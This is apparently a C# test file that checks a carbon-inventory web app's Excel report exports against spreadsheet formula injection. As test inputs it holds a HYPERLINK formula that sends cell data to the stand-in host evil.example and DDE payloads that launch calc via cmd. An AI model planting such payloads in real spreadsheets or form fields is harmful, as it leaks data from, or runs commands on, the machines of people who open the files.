using System.IO.Compression;
using System.Net;
using System.Xml.Linq;
using Lingtan.Store;

namespace Lingtan.Web;

/// <summary>Names and remarks that begin like a formula, entered over the interface and downloaded by somebody else as a workbook.</summary>
public sealed class FormulaInjection
{
    private const string Base = "inventories/pv-factory-2025/";
    private const string Link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"更多\")";

    private static readonly XNamespace Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task What_begins_like_a_formula_is_text_in_every_report_that_is_a_workbook()
    {
        await using var server = await RunningServer.Start();
        var carbon = await server.SignedIn("carbon");
        foreach (var (record, note) in new[] { ("f1", "=1+1"), ("f2", "+cmd|' /C calc'!A0"), ("f3", "-A1"), ("f4", "@SUM(A1)"), ("f5", "\t=1+1") })
        {
            var cells = new { source = "zj-cars", period = "2025-12", record, quantity = "1", unit = "L", note, document = note };
            Assert.Equal(HttpStatusCode.OK, await carbon.Status(HttpMethod.Post, Base + "activity", new { changes = new[] { new { cells } } }));
        }

        Rename(server, "sources", "zj-cars");
        Rename(server, "facilities", "zj");
        var found = 0;
        foreach (var kind in (await carbon.Json("reports")).EnumerateArray().Select(one => one.GetProperty("kind").GetString()))
        {
            using var answer = await carbon.GetAsync(new Uri($"{Base}reports/{kind}.xlsx?lang=zh", UriKind.Relative), Cancel);
            if (answer.StatusCode != HttpStatusCode.OK) continue;
            var cells = Cells(await answer.Content.ReadAsByteArrayAsync(Cancel)).ToList();
            Assert.DoesNotContain(cells, cell => cell.Element(Main + "f") is not null);
            foreach (var cell in cells.Where(cell => cell.Value.StartsWith('=')))
            {
                Assert.Equal("inlineStr", (string?)cell.Attribute("t"));
                found++;
            }
        }

        Assert.True(found > 2, "the names are in the reports");
    }

    [Fact]
    public async Task A_number_is_a_number_and_no_formula_is_taken_for_one()
    {
        await using var server = await RunningServer.Start();
        var carbon = await server.SignedIn("carbon");
        foreach (var quantity in new[] { "=1+1", "+1+1", "@1", "\t1+1", "1;2", "-A1", "=cmd|' /C calc'!A0", "＝1" })
        {
            var cells = new { source = "zj-cars", period = "2025-12", record = "f", quantity, unit = "L" };
            Assert.Equal((quantity, HttpStatusCode.UnprocessableEntity), (quantity, await carbon.Status(HttpMethod.Post, Base + "activity", new { changes = new[] { new { cells } } })));
        }
    }

    private static void Rename(RunningServer server, string kind, string key)
    {
        var facts = server.Part<FactStore>();
        var stated = facts.State("pv-factory-2025").First(fact => fact.Kind == kind && fact.Key == key);
        var content = FactContent.Write(FactContent.Read(stated.Content).Select(cell => cell.Key == "name" || cell.Key.StartsWith("name.", StringComparison.Ordinal) ? KeyValuePair.Create(cell.Key, Link) : cell));
        Assert.NotNull(facts.Record("pv-factory-2025", new Act("carbon", NodaTime.SystemClock.Instance.GetCurrentInstant(), "table"), [new FactChange(kind, key, content, stated.ValidFrom, stated.ValidTo, stated.Revision)], new Quantities.FaultList()));
    }

    private static IEnumerable<XElement> Cells(byte[] workbook)
    {
        using var archive = new ZipArchive(new MemoryStream(workbook));
        foreach (var part in archive.Entries.Where(entry => entry.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal) && entry.FullName.EndsWith(".xml", StringComparison.Ordinal)))
        {
            using var stream = part.Open();
            foreach (var cell in XDocument.Load(stream).Descendants(Main + "c")) yield return cell;
        }
    }
}
